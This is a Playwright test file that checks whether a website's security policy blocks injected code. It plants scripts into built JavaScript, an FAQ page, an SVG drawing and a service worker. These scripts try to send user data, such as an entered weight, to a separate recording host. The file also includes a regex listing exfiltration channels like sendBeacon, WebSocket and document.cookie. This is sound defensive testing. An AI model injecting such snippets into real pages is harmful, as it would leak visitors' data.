import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test as base, expect } from '@playwright/test';
import type { Page } from '@playwright/test';
import { enter, EXAMPLE, open } from './calculator.ts';
import { listenElsewhere } from './policy-elsewhere.ts';
import type { Elsewhere } from './policy-elsewhere.ts';
import { plantedMarkup, plantedScript, PLANTS } from './policy-plants.ts';
import { startWire } from './privacy-wire.ts';
import type { Wire } from './privacy-wire.ts';

/** A host with replaceable files under the real policy, and another host that records requests. */
const test = base.extend<{ wire: Wire; elsewhere: Elsewhere }>({
  wire: async ({ browserName: _ }, use) => {
    const wire = await startWire('dist');
    await use(wire);
    await wire.close();
  },
  baseURL: async ({ wire }, use) => use(wire.origin),
  elsewhere: async ({ browserName: _ }, use) => {
    const elsewhere = await listenElsewhere();
    await use(elsewhere);
    await elsewhere.close();
  },
  serviceWorkers: 'allow',
});

/** The built file of an island. */
const scriptOf = (island: string): string =>
  `/_astro/${String(readdirSync('dist/_astro').find((file) => file.startsWith(`${island}.island.`) && file.endsWith('.js')))}`;

interface Planted {
  readonly plants: Readonly<Record<string, () => void>>;
  readonly said: Readonly<Record<string, readonly string[]>>;
}

/** The browser's response to planted code. */
const saidTo = (page: Page, plant: string): Promise<readonly string[] | undefined> =>
  page.evaluate((name) => (globalThis as unknown as Planted).said[name], plant);

/** Playwright's own query for the title hangs after a blocked form submission. */
const titleOf = (page: Page): Promise<string> => page.evaluate(() => document.title);

test('the browser blocks everything that a script of the site tries to send or to load', async ({
  page,
  wire,
  elsewhere,
}) => {
  wire.change(scriptOf('HomeCalculator'), (body) => `${body}\n${plantedScript(elsewhere.origin)}`);
  await open(page, '/');
  await enter(page, { ...EXAMPLE, weight: '71.3' });
  const address = page.url();
  const title = await titleOf(page);
  for (const { name, stoppedBy } of PLANTS) {
    // Not at once: code that a test evaluates bypasses the policy, code that it starts later does not.
    await page.evaluate((plant) => {
      setTimeout(() => (globalThis as unknown as Planted).plants[plant]?.());
    }, name);
    await expect.poll(() => saidTo(page, name), { message: name }).toContain(stoppedBy);
  }
  expect(page.url().replace(/#.*/u, '')).toBe(address);
  expect(await titleOf(page)).toBe(title);
  await page.waitForTimeout(500);
  expect(elsewhere.heard).toEqual([]);
  expect(wire.strange).toEqual([]);
});

test('markup in the text of a page is not executed', async ({ page, wire, elsewhere }) => {
  wire.change('/faq', (body) => body.replace('<main', () => `${plantedMarkup(elsewhere.origin)}<main`));
  await page.goto('/faq');
  // Playwright would wait for the page that the form does not navigate to.
  await page
    .getByRole('button', { name: 'Planted' })
    .evaluate((button) => setTimeout(() => (button as HTMLButtonElement).click()));
  await page.waitForTimeout(500);
  expect(await titleOf(page)).not.toBe('planted');
  expect(page.url()).toBe(`${wire.origin}/faq`);
  expect(elsewhere.heard).toEqual([]);
  expect(wire.strange).toEqual([]);
});

test('a drawing that is opened directly runs no script and requests nothing', async ({
  page,
  wire,
  elsewhere,
}) => {
  const drawing = [...wire.files].find((path) => path.startsWith('/heroes/')) ?? '';
  const planted = `<script>fetch('${elsewhere.origin}')</script><image href="${elsewhere.origin}/image"/></svg>`;
  wire.change(drawing, (body) => body.replace('</svg>', planted));
  await page.goto(drawing);
  await page.waitForTimeout(300);
  expect(elsewhere.heard).toEqual([]);
});

test('the offline worker can contact only this site', async ({ page, wire, elsewhere }) => {
  wire.change(
    '/sw.js',
    (body) =>
      `${body}\naddEventListener('message', ({ data, source }) => {
          if (data !== 'planted') return;
          const tries = ['${elsewhere.origin}/?71.3', '/favicon.svg'].map((address) => fetch(address, { mode: 'no-cors' }).then(() => 'sent', () => 'refused'));
          Promise.all(tries).then((results) => source.postMessage(results.join()));
        });`,
  );
  await page.goto('/faq');
  const answer = await page.evaluate(async () => {
    await navigator.serviceWorker.register('/sw.js');
    const { active } = await navigator.serviceWorker.ready;
    return new Promise((done) => {
      navigator.serviceWorker.addEventListener('message', ({ data }) => {
        if (typeof data === 'string') done(data);
      });
      navigator.serviceWorker.startMessages();
      active?.postMessage('planted');
    });
  });
  expect(answer).toBe('refused,sent');
  expect(elsewhere.heard).toEqual([]);
});

/**
 * What no policy blocks: a page may navigate its visitor to another address, connect browsers directly, or request
 * an image from its own host at an address with a query. So no script of the site contains such code, and
 * the walks of `privacy-walks.slow.test.ts` check that it never happens.
 */
const UNSTOPPABLE =
  /\bRTCPeerConnection\b|\bwindow\.open\b|\blocation\.(?:assign|replace|href\s*=[^=])|\blocation\s*=[^=]|\bnew Image\b|\bdocument\.cookie\b|\bsendBeacon\b|\bXMLHttpRequest\b|\bWebSocket\b|\bEventSource\b|rel="?(?:dns-prefetch|preconnect)/u;

/** Papa Parse can also download files; it is only ever given text, and `connect-src 'none'` blocks the rest. */
const isPapaParse = (file: string): boolean =>
  readFileSync(join('dist', file), 'utf8').includes('BAD_DELIMITERS');

/** The code that a page shows to developers isn't run. */
const withoutExamples = (text: string): string => text.replaceAll(/<pre\b.*?<\/pre>/gsu, '');

test('no script of the site contains what no policy can block', () => {
  const files = readdirSync('dist', { recursive: true, encoding: 'utf8' }).filter((file) =>
    /\.(?:js|html)$/u.test(file),
  );
  expect(files.length).toBeGreaterThan(50);
  const found = files.flatMap((file) => {
    const [hit] = UNSTOPPABLE.exec(withoutExamples(readFileSync(join('dist', file), 'utf8'))) ?? [];
    return hit === undefined || (hit === 'XMLHttpRequest' && isPapaParse(file)) ? [] : [`${file}: ${hit}`];
  });
  expect(found).toEqual([]);
});
